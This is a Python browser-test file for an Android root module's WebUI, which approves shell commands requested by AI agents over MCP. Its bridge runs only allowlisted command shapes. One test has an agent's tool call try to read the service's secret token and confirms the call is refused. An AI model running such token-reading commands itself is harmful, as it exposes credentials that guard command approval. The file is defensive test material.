"""The Magisk/KernelSU module's WebUI (packaging/magisk/webroot/) in a real browser.

The page runs in Debian's headless Chromium (selenium, browser.py) at a phone's size, served
as it is by a small stdlib HTTP server, with the module's CSP (config.json) as a response
header too, as MMRL's WebUI X sends it. The root manager's bridge, `window.ksu`, is a
stand-in injected before the page's scripts (DevTools, Page.addScriptToEvaluateOnNewDocument):
its `exec(command, "{}", callbackName)` hands the command to the test server, which accepts
only the shapes app.js documents (its fixed prefix
`'/data/adb/modules/nl2sh/system/bin/nl2sh' --config '/data/adb/nl2sh/config.toml'` and one
of its commands), swaps that prefix for the real binary and this test's configuration, runs
it with /bin/sh -c outside the nl2sh process tree (as the manager does, as root) and calls
`window[callbackName](errno, stdout, stderr)` back. Anything else is refused and recorded.

How the answer reaches the page: the page's CSP has connect-src 'none', so the stand-in
cannot fetch() (test_the_csp_is_served_and_blocks_fetch shows it). It loads a same-origin
<script src="/exec?..."> instead (script-src 'self' allows it) whose body calls the callback:
a JSONP bridge, as invisible to the CSP as the manager's Java bridge is.

The service is a real `nl2sh --config X --web-only` (MCP in the same process) on port 0 with
a fixed token; the requests to approve come from real MCP tools/call requests.
Screenshots: <repo>/target/web-screenshots/webui-*.png.
"""

from __future__ import annotations

import hashlib
import http.client
import http.server
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import threading
import time
import tomllib
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from browser import DESKTOP, PHONE, Browser, Browsers, browsers  # noqa: F401 - `browsers` is a fixture
from test_web_console import chat_standins, copy_with
from web_service import BASE_CONFIG, NL2SH_BIN, TOKEN, McpCall, WebService, clean_env, require_nl2sh, web_service

WEBROOT = Path(__file__).resolve().parents[2] / "packaging" / "magisk" / "webroot"
EXEC_TIMEOUT = 30.0
# The page polls every 2 s: a change shows within one or two rounds.
APPEAR_TIMEOUT = 8.0
# A card the page decided stays 5 s with its outcome (DECIDED_SHOWN_MS), then goes at the
# next poll.
GONE_TIMEOUT = 15.0

# What app.js puts in front of every nl2sh command (its BIN and CONFIG, single-quoted).
PAGE_PREFIX = "'/data/adb/modules/nl2sh/system/bin/nl2sh' --config '/data/adb/nl2sh/config.toml'"
_ID = r"[a-z0-9]{1,32}"
# The rest of each command app.js may build (its COMMANDS comment), after PAGE_PREFIX.
ALLOWED_TAILS = {
    "status": re.compile(r" service status --json </dev/null"),
    "approvals": re.compile(r" protocol approvals --json </dev/null"),
    "console": re.compile(r" web login --open </dev/null"),
    "approve": re.compile(rf" protocol approve (?P<id>{_ID}) --yes </dev/null"),
    "approve-phrase": re.compile(
        rf" protocol approve (?P<id>{_ID}) --yes --phrase 'approve (?:dangerous|critical) (?P=id)' </dev/null"
    ),
    "approve-ui": re.compile(rf" protocol approve (?P<id>{_ID}) --yes --ui-minutes (?:5|10|15|30) </dev/null"),
    "reject": re.compile(rf" protocol reject (?P<id>{_ID}) </dev/null"),
    "ui-grants": re.compile(r" protocol ui-grants --json </dev/null"),
    "ui-revoke": re.compile(rf" protocol ui-grants --revoke (?P<id>{_ID}) </dev/null"),
    "token": re.compile(r" protocol token </dev/null"),
    "auto-approve": re.compile(r" config get protocol_auto_approve </dev/null"),
    "audit": re.compile(r" protocol audit --json --since 5m --limit 50 </dev/null"),
}
# `service start` and `restart` run detached in a subshell (app.js's detached()): the whole
# command line is fixed but for the verb and its output file.
DETACHED_RE = re.compile(
    r"\( umask 077; (?P<prefix>'[^']+' --config '[^']+') service (?P<verb>start|restart) </dev/null "
    r">'/data/adb/nl2sh/\.webui-(?P=verb)\.out' 2>&1; s=\$\?; sed -E -e 's/#login=\[\^\[:space:\]\]\*/#login=\[redacted\]/g' "
    r"-e 's/\[A-Za-z0-9_-\]\{32,\}/\[redacted\]/g' '/data/adb/nl2sh/\.webui-(?P=verb)\.out'; "
    r"rm -f '/data/adb/nl2sh/\.webui-(?P=verb)\.out'; exit \$s \)"
)
CALLBACK_RE = re.compile(r"exec_callback_\d+_\d+")

# The stand-in bridge. Deliberately small: what KernelSU/APatch/WebUI X expose to the page
# as far as app.js uses it, nothing more.
KSU_STANDIN = r"""
(function () {
  if (window.ksu) { return; }
  window.__ksuCalls = 0;
  window.ksu = {
    exec: function (command, options, callbackName) {
      window.__ksuCalls++;
      var s = document.createElement('script');
      s.src = '/exec?cb=' + encodeURIComponent(String(callbackName)) +
        '&opts=' + encodeURIComponent(String(options)) +
        '&cmd=' + encodeURIComponent(String(command));
      s.onload = function () { s.remove(); };
      s.onerror = function () {
        s.remove();
        if (typeof window[callbackName] === 'function') {
          window[callbackName](1, '', 'test bridge: /exec did not load');
        }
      };
      (document.head || document.documentElement).appendChild(s);
    }
  };
})();
"""


# ---------------------------------------------------------------------------------------
# The service: a real `nl2sh --config X --web-only`
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def service(tmp_path_factory) -> Iterator[WebService]:
    with web_service(tmp_path_factory.mktemp("webui-service"), "service") as s:
        yield s


# ---------------------------------------------------------------------------------------
# The manager stand-in: the webroot and the bridge's /exec
# ---------------------------------------------------------------------------------------


@dataclass
class ExecEntry:
    """One command the page sent through the bridge."""

    via: str  # "script" (the stand-in's JSONP) or "fetch" (a POST, which the CSP should stop)
    command: str
    options: str
    callback: str
    kind: str | None  # the ALLOWED_TAILS key, None when refused
    errno: int | None = None
    stdout: str = ""
    stderr: str = ""
    refused: str = ""  # why, when refused
    seconds: float = 0.0


class WebUI:
    """The webroot on 127.0.0.1:<port> with the bridge's /exec, on a thread."""

    CONTENT_TYPES = {
        ".html": "text/html; charset=utf-8",
        ".js": "text/javascript; charset=utf-8",
        ".css": "text/css; charset=utf-8",
        ".json": "application/json",
    }

    def __init__(self, service: WebService, standin_bin: Path, runtime_dir: Path, log_path: Path):
        self.service = service
        self.csp = json.loads((WEBROOT / "config.json").read_text())["contentSecurityPolicy"]
        self.real_prefix = f"{shlex.quote(NL2SH_BIN)} --config {shlex.quote(str(service.config))}"
        # What the manager runs the page's commands with: the stand-in xdg-open first on PATH.
        self.env = clean_env(
            PATH=f"{standin_bin}:{os.environ.get('PATH', '/usr/bin:/bin')}",
            XDG_RUNTIME_DIR=str(runtime_dir),
        )
        self.log_path = log_path
        self.entries: list[ExecEntry] = []
        self.requests: list[str] = []  # every request line the server got
        self._lock = threading.Lock()
        webui = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:  # quiet
                pass

            def _send(self, status: int, ctype: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Content-Security-Policy", webui.csp)
                self.send_header("X-Content-Type-Options", "nosniff")
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                with webui._lock:
                    webui.requests.append(f"GET {self.path}")
                url = urllib.parse.urlsplit(self.path)
                if url.path == "/exec":
                    q = urllib.parse.parse_qs(url.query, keep_blank_values=True)
                    one = lambda k: (q.get(k) or [""])[0]  # noqa: E731
                    cb = one("cb")
                    entry = webui.run("script", one("cmd"), one("opts"), cb)
                    if not CALLBACK_RE.fullmatch(cb):
                        self._send(400, "text/javascript; charset=utf-8", b"/* bad callback name */")
                        return
                    # JSON (ASCII-escaped, so U+2028 and </script> are harmless) is a JS expression.
                    js = "window[%s](%d, %s, %s);" % (
                        json.dumps(cb),
                        entry.errno,
                        json.dumps(entry.stdout),
                        json.dumps(entry.stderr),
                    )
                    self._send(200, "text/javascript; charset=utf-8", js.encode())
                    return
                name = "index.html" if url.path in ("/", "/index.html") else url.path.lstrip("/")
                path = WEBROOT / name
                if "/" in name or not path.is_file():
                    self._send(404, "text/plain", b"not found")
                    return
                self._send(200, webui.CONTENT_TYPES.get(path.suffix, "application/octet-stream"), path.read_bytes())

            def do_POST(self) -> None:  # noqa: N802
                # The bridge as first designed (fetch('/exec', {method: 'POST', body: cmd})):
                # served, but the page's connect-src 'none' must keep it from ever arriving.
                with webui._lock:
                    webui.requests.append(f"POST {self.path}")
                length = int(self.headers.get("Content-Length") or 0)
                cmd = self.rfile.read(length).decode(errors="replace")
                if urllib.parse.urlsplit(self.path).path != "/exec":
                    self._send(404, "text/plain", b"not found")
                    return
                e = webui.run("fetch", cmd, "", "")
                body = json.dumps({"errno": e.errno, "stdout": e.stdout, "stderr": e.stderr}).encode()
                self._send(200, "application/json", body)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True, name="webui server")
        self.thread.start()

    # -- the bridge -----------------------------------------------------------------------

    def classify(self, command: str) -> str | None:
        detached = DETACHED_RE.fullmatch(command)
        if detached:
            return detached["verb"] if detached["prefix"] == PAGE_PREFIX else None
        if not command.startswith(PAGE_PREFIX):
            return None
        tail = command[len(PAGE_PREFIX) :]
        for kind, pattern in ALLOWED_TAILS.items():
            if pattern.fullmatch(tail):
                return kind
        return None

    def run(self, via: str, command: str, options: str, callback: str) -> ExecEntry:
        kind = self.classify(command)
        entry = ExecEntry(via=via, command=command, options=options, callback=callback, kind=kind)
        started = time.monotonic()
        if kind is None:
            entry.errno, entry.stderr = 1, "refused by the test's bridge: not a command of app.js's shape"
            entry.refused = "not a documented command"
        elif via == "script" and not CALLBACK_RE.fullmatch(callback):
            entry.errno, entry.refused = 1, f"callback name {callback!r} not exec_callback_<ms>_<n>"
        else:
            if kind in ("start", "restart"):
                # The same line with this test's binary, configuration and output file.
                out = str(self.log_path.parent / f".webui-{kind}.out")
                real = command.replace(PAGE_PREFIX, self.real_prefix, 1).replace(
                    f"/data/adb/nl2sh/.webui-{kind}.out", out
                )
            else:
                real = self.real_prefix + command[len(PAGE_PREFIX) :]
            try:
                p = subprocess.run(
                    ["/bin/sh", "-c", real],
                    stdin=subprocess.DEVNULL,
                    capture_output=True,
                    text=True,
                    env=self.env,
                    timeout=EXEC_TIMEOUT,
                    start_new_session=True,
                )
                entry.errno = p.returncode if p.returncode >= 0 else 128 - p.returncode
                # The managers join the output's lines with "\n", without a final newline.
                entry.stdout = p.stdout[:-1] if p.stdout.endswith("\n") else p.stdout
                entry.stderr = p.stderr[:-1] if p.stderr.endswith("\n") else p.stderr
            except subprocess.TimeoutExpired:
                entry.errno, entry.stderr = 124, f"timed out after {EXEC_TIMEOUT}s"
        entry.seconds = round(time.monotonic() - started, 3)
        with self._lock:
            self.entries.append(entry)
            with self.log_path.open("a") as f:
                f.write(json.dumps(entry.__dict__) + "\n")
        return entry

    # -- what the tests look at -------------------------------------------------------------

    def snapshot(self) -> list[ExecEntry]:
        with self._lock:
            return list(self.entries)

    def wait_entry(self, kind: str, contains: str, timeout: float = 10.0, since: int = 0) -> ExecEntry:
        deadline = time.monotonic() + timeout
        while True:
            for e in self.snapshot()[since:]:
                if e.kind == kind and contains in e.command:
                    return e
            if time.monotonic() > deadline:
                raise AssertionError(
                    f"the page did not send a {kind} command with {contains!r} within {timeout}s; sent: "
                    + json.dumps([e.command for e in self.snapshot()[since:]], indent=1)[-3000:]
                )
            time.sleep(0.05)

    def assert_only_page_commands(self) -> None:
        entries = self.snapshot()
        refused = [e for e in entries if e.refused]
        assert not refused, "the page sent commands outside app.js's shape:\n" + "\n".join(
            f"{e.refused}: {e.command!r}" for e in refused
        )
        assert all(e.via == "script" for e in entries), "a fetch() reached the bridge despite the CSP"
        assert all(e.options == "{}" for e in entries), {e.options for e in entries}
        callbacks = [e.callback for e in entries]
        assert len(callbacks) == len(set(callbacks)), "a callback name was used twice"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


@dataclass
class XdgOpen:
    args: Path  # one argument per line, as the stand-in got them
    pages: Path  # a copy of what each argument's file held


@pytest.fixture(scope="module")
def xdg_open(tmp_path_factory) -> XdgOpen:
    """A stand-in `xdg-open` that records its argument (and a copy of that file)."""
    d = tmp_path_factory.mktemp("webui-bin")
    record = XdgOpen(args=d / "xdg-open.args", pages=d / "xdg-open.pages")
    script = d / "xdg-open"
    script.write_text(
        "#!/bin/sh\n"
        f"printf '%s\\n' \"$1\" >> {shlex.quote(str(record.args))}\n"
        f"cat -- \"$1\" >> {shlex.quote(str(record.pages))} 2>/dev/null\n"
        "exit 0\n"
    )
    script.chmod(0o755)
    return record


@pytest.fixture(scope="module")
def webui(service: WebService, xdg_open: XdgOpen, tmp_path_factory) -> Iterator[WebUI]:
    runtime = tmp_path_factory.mktemp("webui-run")
    runtime.chmod(0o700)
    log = tmp_path_factory.mktemp("webui-log") / "commands.jsonl"
    w = WebUI(service, xdg_open.args.parent, runtime, log)
    try:
        yield w
    finally:
        w.close()


# ---------------------------------------------------------------------------------------
# Using the page
# ---------------------------------------------------------------------------------------


def open_webui(browsers: Browsers, webui: WebUI, name: str, size=PHONE) -> Browser:
    """A browser (phone-sized unless told) with the stand-in bridge, on the WebUI, once it
    shows the service running (its first poll answered)."""
    b = browsers.new(size=size, name=name)
    b.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": KSU_STANDIN})
    b.get(webui.origin + "/")
    b.until(lambda: b.find("#state").get_attribute("textContent") == "running", APPEAR_TIMEOUT, "the page shows the service running")
    assert b.find("#host-error").get_attribute("hidden") is not None, b.find("#host-error").text
    return b


FIND_CARD = """
const cards = document.querySelectorAll('#approvals article.request');
for (const card of cards) {
  const pre = card.querySelector('pre.action');
  if (pre && pre.textContent.includes(arguments[0])) { return card; }
}
return null;"""


def wait_card(b: Browser, needle: str, timeout: float = APPEAR_TIMEOUT):
    return b.until(lambda: b.js(FIND_CARD, needle), timeout, f"a request card showing {needle!r}")


def card_button(card, css: str):
    return card.find_element("css selector", css)


def wait_shown(b: Browser, card, css: str, what: str, timeout: float = 3.0):
    """The card's element `css`, once it is displayed (a step the card opens on a click)."""
    return b.until(lambda: (lambda n: n if n.is_displayed() else None)(card_button(card, css)), timeout, what)


def tap(b: Browser, element) -> None:
    """Click `element` once it is in the middle of the screen, as a person taps what they
    see (selenium's own scroll may leave it at an edge, under the sticky bar or past the
    bottom, where its click may land on nothing)."""
    b.js("arguments[0].scrollIntoView({block: 'center'});", element)
    element.click()


def card_text(card, css: str) -> str:
    """The text of the card's element as the DOM has it (the CSS upper-cases some labels)."""
    return card.find_element("css selector", css).get_attribute("textContent")


def card_gone(b: Browser, needle: str) -> bool:
    return b.js(FIND_CARD, needle) is None


def endpoints(b: Browser) -> dict[str, str]:
    """The Service card's rows, label -> value, as the page shows them."""
    return b.js(
        """
        const out = {};
        const dl = document.getElementById('endpoints');
        for (const dt of dl.querySelectorAll('dt')) {
          const dd = dt.nextElementSibling;
          if (!(dt.textContent in out)) { out[dt.textContent] = dd ? dd.textContent : null; }
        }
        return out;"""
    )


def dom_text(b: Browser) -> str:
    """Everything of the page a person or a script could read: markup, text, input values."""
    return b.js(
        """
        const values = Array.from(document.querySelectorAll('input, textarea')).map(n => n.value);
        return document.documentElement.outerHTML + '\\n' + document.body.innerText + '\\n' + values.join('\\n');"""
    )


def shot(b: Browser, name: str) -> Path:
    """A full-page screenshot from the top (scrolled, the sticky bar would be drawn mid-page)."""
    b.js("window.scrollTo(0, 0);")
    return b.screenshot(name)


# Records, from before a click, when a card's message says what and when the card leaves.
WATCH_CARD = """
const card = arguments[0];
const w = window.__watch = {messages: [], removedAt: null};
const t0 = performance.now();
new MutationObserver(() => {
  const m = card.querySelector('p.message');
  const text = m && !m.hidden ? m.textContent : '';
  const last = w.messages.length ? w.messages[w.messages.length - 1][1] : null;
  if (text && text !== last) { w.messages.push([Math.round(performance.now() - t0), text]); }
  if (!card.isConnected && w.removedAt === null) { w.removedAt = Math.round(performance.now() - t0); }
}).observe(document.getElementById('approvals'), {subtree: true, childList: true, characterData: true, attributes: true});
"""


def assert_hints_carry_config(b: Browser) -> None:
    """Every `nl2sh ...` command the page shows names the binary and the --config in use."""
    text = b.js("return document.body.textContent;")
    bare = re.findall(r"(?<!/bin/)nl2sh(?:'| --config)? (?:protocol|service|config|web) ", text)
    assert not bare, f"a command hint without the --config in use: {bare}"
    hint = b.find("#hint-token-command").get_attribute("textContent")
    assert hint == PAGE_PREFIX + " config set protocol_token -", hint


def finish(b: Browser, webui: WebUI) -> None:
    """What every test ends with: no JS error or CSP violation, only app.js's commands,
    and a page as wide as the screen (a phone zooms out, rather than scrolling sideways,
    to fit something too wide: horizontal_overflow() alone cannot see that)."""
    assert b.js("return innerWidth;") == b.viewport[0], "the page is wider than the screen"
    b.assert_clean_console()
    webui.assert_only_page_commands()


# ---------------------------------------------------------------------------------------
# 1. Status
# ---------------------------------------------------------------------------------------


def test_the_page_shows_the_running_service_and_its_urls_but_no_token(
    service: WebService, webui: WebUI, browsers: Browsers
):
    b = open_webui(browsers, webui, "status")
    b.wait_visible("#endpoints")
    rows = endpoints(b)
    status = service.status()
    proto = next(c for c in status["connections"] if c.get("mcp_url"))
    web = next(c for c in status["connections"] if c.get("transport") == "web")
    assert rows.get("MCP") == proto["mcp_url"] == service.mcp_url, rows
    assert rows.get("A2A") == proto["a2a_url"], rows
    assert rows.get("Web console") == web["url"] == service.origin, rows
    assert b.find("#service-summary").text == "Running."
    assert "pill-running" in b.find("#state").get_attribute("class")
    assert b.find("#console").is_displayed(), "no Open Web console button while the web console runs"
    assert not b.find("#start").is_displayed(), "a Start button while the service runs"
    assert not b.find("#restart").is_displayed(), "Restart now for a service `service restart` cannot restart"
    assert not b.find("#auto-approve").is_displayed(), "the automatic approval banner while it is off"
    b.until(lambda: b.find("#approvals-summary").text.startswith("None."), APPEAR_TIMEOUT, "no requests yet")

    # The token: not in the page, nor in anything the page sent or received.
    assert TOKEN not in dom_text(b)
    for e in webui.snapshot():
        assert TOKEN not in e.command + e.stdout + e.stderr, e
    sent = {e.kind for e in webui.snapshot()}
    assert {"status", "approvals"} <= sent, sent
    assert not b.horizontal_overflow(), "the page scrolls sideways on a phone"
    # Approvals first: the first card on the page, its heading the page's h1.
    first = b.js("return document.querySelector('main section.card').querySelector('h1, h2').id;")
    assert first == "approvals-title", first
    # One time format, local "YYYY-MM-DD HH:MM:SS", as the Web console's.
    since = b.js(
        """const d = new Date(arguments[0]); const two = n => String(n).padStart(2, '0');
           return `${d.getFullYear()}-${two(d.getMonth() + 1)}-${two(d.getDate())} ` +
                  `${two(d.getHours())}:${two(d.getMinutes())}:${two(d.getSeconds())}`;""",
        proto["since"],
    )
    assert rows.get("Since") == since, (rows.get("Since"), proto["since"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", since), since
    # Every command the page shows carries the binary and the --config it runs.
    assert_hints_carry_config(b)
    shot(b, "webui-status")
    desk = open_webui(browsers, webui, "status-desktop", size=DESKTOP)
    desk.wait_visible("#endpoints")
    assert desk.js("return document.querySelector('main section.card h1').id;") == "approvals-title"
    assert not desk.horizontal_overflow()
    shot(desk, "webui-status-desktop")
    # The same in the dark (the page follows prefers-color-scheme).
    b.driver.execute_cdp_cmd(
        "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
    )
    assert b.js("return matchMedia('(prefers-color-scheme: dark)').matches;")
    shot(b, "webui-status-dark")
    finish(b, webui)


def test_the_token_is_shown_on_reveal_and_the_client_settings_copy(
    service: WebService, xdg_open: XdgOpen, browsers: Browsers, tmp_path: Path
):
    """Connect an agent: the Codex TOML and `mcpServers` JSON nl2sh gives (the Web
    console's content) each with a Copy button; the token hidden until Reveal, which runs
    `protocol token` and shows the token the service accepts, with Copy and Hide; Hide
    forgets it. At phone and desktop sizes."""
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    w = WebUI(service, xdg_open.args.parent, runtime, tmp_path / "commands.jsonl")
    try:
        (proto,) = [c for c in service.status()["connections"] if c.get("mcp_url")]
        reads = 0
        for name, size in (("phone", PHONE), ("desktop", DESKTOP)):
            b = open_webui(browsers, w, f"token-{name}", size=size)
            b.wait_visible("#snippets")
            assert TOKEN not in dom_text(b)
            # Where the token in use came from (this configuration sets protocol_token).
            assert b.find("#token-state").text == "hidden · set as protocol_token in the configuration"
            assert len([e for e in w.snapshot() if e.kind == "token"]) == reads, "the token was read before Reveal"
            b.grant_clipboard(w.origin)
            codex = copy_with(b, "copy-codex")
            assert codex == proto["codex_toml"], codex
            server = tomllib.loads(codex)["mcp_servers"]["nl2sh"]
            assert server["url"] == service.mcp_url and server["bearer_token_env_var"] == "NL2SH_PROTOCOL_TOKEN", server
            servers = json.loads(copy_with(b, "copy-json"))
            assert servers["mcpServers"]["nl2sh"]["url"] == service.mcp_url, servers
            assert servers["mcpServers"]["nl2sh"]["headers"]["Authorization"] == "Bearer ${NL2SH_PROTOCOL_TOKEN}"

            b.wait_clickable("#reveal-token").click()
            shown = b.until(lambda b=b: b.find_all("#token-value"), 5, "the token is shown")[0]
            assert shown.get_attribute("value") == TOKEN
            reads += 1
            assert len([e for e in w.snapshot() if e.kind == "token"]) == reads
            assert copy_with(b, "copy-token") == TOKEN
            assert not b.horizontal_overflow()
            shot(b, f"webui-token-{name}")
            b.wait_clickable("#hide-token").click()
            b.wait_visible("#reveal-token")
            assert TOKEN not in dom_text(b), "Hide left the token in the page"
            finish(b, w)
    finally:
        w.close()


def test_a_tool_command_is_refused_the_token(service: WebService, tmp_path: Path):
    """`protocol token` is the owner's, as `protocol approve` is: a command the service
    runs (an approved shell.exec) is refused by approvald's peer check (exit 9) and never
    prints the token."""
    command = f"{shlex.quote(NL2SH_BIN)} --config {shlex.quote(str(service.config))} protocol token; echo rc=$?"
    call = service.invoke_async(command)
    deadline = time.monotonic() + APPEAR_TIMEOUT
    while not (pending := [p for p in service.pending() if "protocol token" in p["action"]]):
        assert time.monotonic() < deadline, "the tool call never asked"
        time.sleep(0.1)
    phrase = ["--phrase", pending[0]["phrase"]] if pending[0]["phrase"] else []
    r = service.cli("protocol", "approve", pending[0]["id"], "--yes", *phrase)
    assert r.returncode == 0, r.stderr
    said = json.dumps(call.result())
    assert "rc=9" in said and "refused" in said, said
    assert TOKEN not in said
    # The owner, outside the tree, gets it; `service status` says how, with the --config.
    r = service.cli("protocol", "token")
    assert r.returncode == 0 and r.stdout == TOKEN + "\n", r
    status = service.cli("service", "status").stdout
    assert f"`nl2sh --config {service.config} protocol token` prints the one in use" in status, status


@contextmanager
def managed_service(directory: Path) -> Iterator[WebService]:
    """The managed service (`service start`, as the module's boot script starts it) for a
    configuration in `directory`, stopped afterwards."""
    require_nl2sh()
    directory.mkdir(exist_ok=True)
    config = directory / "config.toml"
    config.write_text(BASE_CONFIG)
    config.chmod(0o600)
    s = WebService(config=config, dir=directory, proc=None, stderr_path=directory / "none", env=clean_env())
    r = s.cli("service", "start", timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    try:
        yield s
    finally:
        r = s.cli("service", "stop", timeout=60)
        assert r.returncode == 0, r.stdout + r.stderr


def shown_pid(b: Browser) -> str:
    return endpoints(b).get("PID") or ""


def test_restart_now_asks_then_restarts_the_managed_service(xdg_open: XdgOpen, browsers: Browsers, tmp_path: Path):
    """"Restart now" (managed service only) asks first, Cancel sends nothing; then it runs
    `service restart` for the module's configuration and says so; the page shows the new
    process, and a token revealed for the old one is hidden again. A saved setting the
    running service does not use yet is named (saved and running value) until then."""
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    with managed_service(tmp_path / "svc") as svc:
        w = WebUI(svc, xdg_open.args.parent, runtime, tmp_path / "commands.jsonl")
        try:
            pid = str(svc.status()["connections"][0]["pid"])
            phone = open_webui(browsers, w, "restart-phone")
            desk = open_webui(browsers, w, "restart-desktop", size=DESKTOP)
            for b in (phone, desk):
                b.until(lambda b=b: shown_pid(b) == pid, APPEAR_TIMEOUT, "the pid shown")
                assert b.find("#restart").is_displayed()
            phone.wait_clickable("#reveal-token").click()
            phone.until(lambda: phone.find_all("#token-value"), 5, "the token is shown")
            # A saved port the running service does not use yet: the page says so.
            assert not phone.find("#differs").is_displayed()
            with socket.socket() as sock:
                sock.bind(("127.0.0.1", 0))
                port = sock.getsockname()[1]
            assert svc.cli("config", "set", "protocol_service_port", str(port)).returncode == 0
            for b in (phone, desk):
                differs = b.wait_visible("#differs", APPEAR_TIMEOUT)
                assert f"protocol_service_port: saved {port}, running " in differs.text, differs.text
                assert "Restart now applies" in differs.text
            shot(desk, "webui-differs-desktop")

            before = len(w.snapshot())
            phone.find("#restart").click()
            ask = phone.wait_visible("#restart-confirm")
            assert "Restart the service now" in ask.text, ask.text
            shot(phone, "webui-restart-confirm")
            phone.find("#restart-cancel").click()
            phone.until(lambda: not phone.find("#restart-confirm").is_displayed(), 2, "the step closed")
            time.sleep(0.3)
            assert not [e for e in w.snapshot()[before:] if e.kind == "restart"]

            phone.find("#restart").click()
            phone.wait_clickable("#restart-now").click()
            entry = w.wait_entry("restart", " service restart ", timeout=60, since=before)
            assert entry.errno == 0, entry
            new_pid = str(svc.status()["connections"][0]["pid"])
            assert new_pid != pid
            msg = phone.until(
                lambda: (lambda n: n if "message-ok" in n.get_attribute("class") else None)(phone.find("#service-message")),
                5,
                "the page says it restarted",
            )
            assert msg.text.startswith("Restarted"), msg.text
            for b in (phone, desk):
                b.until(lambda b=b: shown_pid(b) == new_pid, APPEAR_TIMEOUT, "the new pid shown")
            assert not phone.find_all("#token-value"), "a token of the old service is still shown"
            for b in (phone, desk):
                b.until(lambda b=b: not b.find("#differs").is_displayed(), APPEAR_TIMEOUT, "differs no more")
            phone.wait_visible("#reveal-token")
            assert not phone.horizontal_overflow() and not desk.horizontal_overflow()
            shot(phone, "webui-restarted-phone")
            shot(desk, "webui-restarted-desktop")
            for b in (phone, desk):
                finish(b, w)
            # Only reads made while the old service was going may have found nothing running.
            failed = [
                e for e in w.snapshot() if e.errno != 0 and not (e.errno == 3 and e.kind in ("approvals", "ui-grants"))
            ]
            assert not failed, "\n".join(f"{e.errno} {e.command!r}: {e.stderr}" for e in failed)
        finally:
            w.close()


def test_a_banner_says_while_every_request_is_approved_automatically(
    xdg_open: XdgOpen, browsers: Browsers, tmp_path: Path
):
    """With protocol_auto_approve on, a banner at the top at both sizes, light and dark,
    with the command (binary and --config) that turns it off; it goes once it is off."""
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    (tmp_path / "svc").mkdir()
    with web_service(tmp_path / "svc", "service", extra_config="protocol_auto_approve = true\n") as svc:
        w = WebUI(svc, xdg_open.args.parent, runtime, tmp_path / "commands.jsonl")
        try:
            pages = [open_webui(browsers, w, "auto-phone"), open_webui(browsers, w, "auto-desktop", size=DESKTOP)]
            for b in pages:
                banner = b.wait_visible("#auto-approve", APPEAR_TIMEOUT)
                assert banner.text.startswith(
                    "Every request is approved automatically (protocol_auto_approve)."
                ), banner.text
                assert PAGE_PREFIX + " config set protocol_auto_approve false" in banner.text
                top = b.js("return arguments[0].getBoundingClientRect().top;", banner)
                assert top < b.js("return document.getElementById('approvals-title').getBoundingClientRect().top;")
                assert not b.horizontal_overflow()
            shot(pages[0], "webui-auto-approve-phone")
            shot(pages[1], "webui-auto-approve-desktop")
            pages[0].driver.execute_cdp_cmd(
                "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
            )
            shot(pages[0], "webui-auto-approve-dark")
            assert svc.cli("config", "set", "protocol_auto_approve", "false").returncode == 0
            for b in pages:
                b.until(lambda b=b: not b.find("#auto-approve").is_displayed(), APPEAR_TIMEOUT, "the banner goes")
                finish(b, w)
        finally:
            w.close()


# ---------------------------------------------------------------------------------------
# 2. Approve
# ---------------------------------------------------------------------------------------


def test_a_request_from_mcp_is_approved_in_the_page(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    b = open_webui(browsers, webui, "approve")
    marker = tmp_path / "marker"
    call = service.invoke_async(f"touch {marker}")
    card = wait_card(b, str(marker))
    rid = card_text(card, ".rid")
    assert re.fullmatch(_ID, rid), rid
    assert card_text(card, ".risk") == "low"
    assert card_text(card, ".tool") == "shell.exec"
    assert b.find("#approvals-count").text == "(1)"
    assert any(p["id"] == rid and str(marker) in p["action"] for p in service.pending())

    # The first click only opens the confirm step: nothing is sent yet.
    before = len(webui.snapshot())
    card_button(card, ":scope > .buttons > .btn-approve").click()
    go = wait_shown(b, card, ".confirm .btn-approve", "the confirm step")
    assert go.text == "Approve now"
    assert rid in card_button(card, ".confirm").text
    shot(b, "webui-approve-confirm")
    time.sleep(0.3)  # a moment for a (wrong) early command to show up
    assert not [e for e in webui.snapshot()[before:] if e.kind and e.kind.startswith("approve")]
    assert not marker.exists()
    # The confirm step survives the page's polls (the card is not redrawn under the finger).
    b.until(lambda: len(webui.snapshot()) >= before + 2, 5, "a poll after the confirm step opened")
    assert card_button(card, ".confirm").is_displayed()

    b.js(WATCH_CARD, card)
    go.click()
    entry = webui.wait_entry("approve", f" protocol approve {rid} --yes ", since=before)
    assert entry.errno == 0, entry
    result = call.result()
    assert result.get("isError") is not True, result
    assert marker.exists(), "the approved command did not run"
    b.until(lambda: card_gone(b, str(marker)), GONE_TIMEOUT, "the approved card leaves the page")
    b.until(lambda: b.find("#approvals-count").text == "", APPEAR_TIMEOUT, "the count cleared")
    assert all(p["id"] != rid for p in service.pending())
    # The page said so on the card, and the card stayed long enough to be read.
    watch = b.js("return window.__watch;")
    said = [m for m in watch["messages"] if m[1].startswith("Approved")]
    assert said, watch
    assert watch["removedAt"] is not None and watch["removedAt"] - said[0][0] >= 4000, watch
